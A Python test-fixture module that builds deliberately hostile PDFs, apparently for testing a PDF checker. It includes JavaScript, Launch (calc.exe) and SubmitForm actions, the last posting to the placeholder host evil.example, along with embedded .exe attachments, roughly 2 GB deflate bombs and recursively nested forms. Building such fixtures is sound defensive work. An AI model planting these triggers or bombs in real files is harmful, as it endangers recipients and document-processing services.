"""PDF files that would do more than be printed, or cost more than they show: each as small as it can be."""

import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Page, Pdf, Stream, String

from tests.flyers.at_flyers import draft, rectangle, written


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def made(change: Callable[[Pdf, Page], None], **how: Any) -> bytes:
    """One page, and what somebody has done to it."""
    pdf = draft()
    change(pdf, pdf.pages[0])
    return written(pdf, **how)


def annotated(pdf: Pdf, page: Page, **more: Any) -> None:
    note = Dictionary(Type=Name.Annot, Rect=rectangle(10, 10, 60, 60), F=4, **more)
    page.obj["/Annots"] = Array([pdf.make_indirect(note)])


def attached(pdf: Pdf) -> Dictionary:
    """A file within the file."""
    file = pdf.make_stream(b"a file", Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file))


def _opens_script(pdf: Pdf, page: Page) -> None:
    pdf.Root.OpenAction = script()


def _script_on_page(pdf: Pdf, page: Page) -> None:
    page.obj["/AA"] = Dictionary(O=script())


def _script_by_name(pdf: Pdf, page: Page) -> None:
    tree = Dictionary(Names=Array([String("x"), pdf.make_indirect(script())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def _script_behind_a_link(pdf: Pdf, page: Page) -> None:
    then = Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=Array([script()]))
    annotated(pdf, page, Subtype=Name.Link, A=then)


def _script_nobody_leads_to(pdf: Pdf, page: Page) -> None:
    page.obj["/Contents"]["/Hidden"] = Dictionary(Deep=Array([Dictionary(A=script())]))


def _launches(pdf: Pdf, page: Page) -> None:
    annotated(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))


def _sends(pdf: Pdf, page: Page) -> None:
    act = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    annotated(pdf, page, Subtype=Name.Widget, FT=Name.Btn, T=String("x"), A=act)
    pdf.Root.AcroForm = Dictionary(Fields=page.obj["/Annots"])


def _carries_a_file(pdf: Pdf, page: Page) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), attached(pdf)])))


def _pins_a_file(pdf: Pdf, page: Page) -> None:
    annotated(pdf, page, Subtype=Name.FileAttachment, FS=String("a.exe"))


def _goes_with_a_file(pdf: Pdf, page: Page) -> None:
    page.obj["/AF"] = Array([attached(pdf)])


def _plays(subtype: str) -> Callable[[Pdf, Page], None]:
    return lambda pdf, page: annotated(pdf, page, Subtype=Name(subtype))


def _asks_by_xfa(pdf: Pdf, page: Page) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


ACTIVE: dict[str, Callable[[Pdf, Page], None]] = {
    "a script when opened": _opens_script,
    "a script of a page": _script_on_page,
    "a script in the tree of names": _script_by_name,
    "a script behind a link": _script_behind_a_link,
    "a script that nothing leads to": _script_nobody_leads_to,
    "a program": _launches,
    "a form that sends": _sends,
    "a file": _carries_a_file,
    "a file pinned to the page": _pins_a_file,
    "a file that goes with it": _goes_with_a_file,
    "rich media": _plays("/RichMedia"),
    "three dimensions": _plays("/3D"),
    "a film": _plays("/Movie"),
    "a form of the other kind": _asks_by_xfa,
}


def encrypted(*, user: str) -> bytes:
    """With "" everybody can open it, and it is encrypted all the same."""
    return written(draft(), encryption=pikepdf.Encryption(owner="owner", user=user))


def many_pages(count: int = 10_000) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>"
    return listed(b" ".join(b"%d 0 R" % (number + 3) for number in range(count)), *[page] * count)


def listed(kids: bytes, *objects: bytes) -> bytes:
    """Written by hand: a tree of pages with these kids, and these objects from number 3."""
    parts = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[%s]>>" % kids, *objects]
    body, table = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, part in enumerate(parts, 1):
        table += b"%010d 00000 n \n" % len(body)
        body += b"%d 0 obj%s endobj\n" % (number, part)
    size = len(parts) + 1
    tail = b"xref\n0 %d\n%strailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF"
    return body + tail % (size, table, size, len(body))


@cache
def deflated_bomb(size: int = 2 << 30) -> bytes:
    """So many zeros, packed thousandfold; nobody reads as far as its end, which is not there."""
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * ((size >> 20) - 1)


def _bomb_on_page(pdf: Pdf, page: Page) -> None:
    page.obj["/Contents"] = Stream(pdf, b"")
    page.obj["/Contents"].write(deflated_bomb(), filter=Name.FlateDecode)


def _bomb_as_picture(pdf: Pdf, page: Page) -> None:
    _pictured(pdf, page, deflated_bomb(), 20_000, 4_000)


def _bomb_as_font(pdf: Pdf, page: Page) -> None:
    font = Stream(pdf, b"")
    font.write(deflated_bomb(), filter=Name.FlateDecode)
    told = Dictionary(Type=Name.FontDescriptor, FontName=Name.X, FontFile2=font, Flags=4)
    page.obj["/Resources"].Font.F1 = Dictionary(
        Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.X, FontDescriptor=told
    )


def _picture_too_large(pdf: Pdf, page: Page) -> None:
    _pictured(pdf, page, zlib.compress(b""), 100_000, 100_000)


def _pictured(pdf: Pdf, page: Page, packed: bytes, width: int, height: int) -> None:
    picture = pdf.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height, BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
    )  # fmt: skip
    picture.write(packed, filter=Name.FlateDecode)
    page.obj["/Resources"]["/XObject"] = Dictionary(P=picture)
    page.obj["/Contents"] = pdf.make_stream(b"q 500 0 0 500 0 0 cm /P Do Q")


def _in_line_too_large(pdf: Pdf, page: Page) -> None:
    page.obj["/Contents"] = pdf.make_stream(b"BI /W 100000 /H 100000 /CS /RGB /BPC 8 ID \x00\x00 EI")


BOMBS: dict[str, Callable[[Pdf, Page], None]] = {
    "a page": _bomb_on_page,
    "a picture": _bomb_as_picture,
    "a font": _bomb_as_font,
    "a picture of ten thousand million": _picture_too_large,
}


def packed_objects() -> bytes:
    """A stream of objects that is two gigabytes large."""
    packed = deflated_bomb()
    head = b"%PDF-1.7\n"
    stream = b"5 0 obj<</Type/ObjStm/N 1/First 8/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    first = head + stream + packed + b"\nendstream endobj\n"
    rows = bytes([0, 0, 0, 0, 255]) + b"".join(bytes([2, 0, 0, 0, 5])[:4] + b"\x00" for _ in range(4))
    rows = b"\x00\x00\x00\x00\xff" + b"\x02\x00\x00\x05\x00" * 4 + b"\x01" + len(head).to_bytes(3) + b"\x00"
    xref = b"6 0 obj<</Type/XRef/Size 6/W[1 3 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return first + xref + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(first)


def nested_forms(depth: int = 3000, circle: bool = False, each: int = 1) -> bytes:
    """A form that draws a form that draws a form; in a circle, or each the next one several times."""

    def change(pdf: Pdf, page: Page) -> None:
        forms = [
            pdf.make_stream(
                b"/X Do " * each, Type=Name.XObject, Subtype=Name.Form, BBox=rectangle(0, 0, 9, 9)
            )
            for _ in range(depth)
        ]
        for one, following in zip(forms, forms[1:] + (forms[:1] if circle else []), strict=False):
            one.Resources = Dictionary(XObject=Dictionary(X=following))
        page.obj["/Resources"] = Dictionary(XObject=Dictionary(X=forms[0]))
        page.obj["/Contents"] = pdf.make_stream(b"/X Do")

    return made(change)
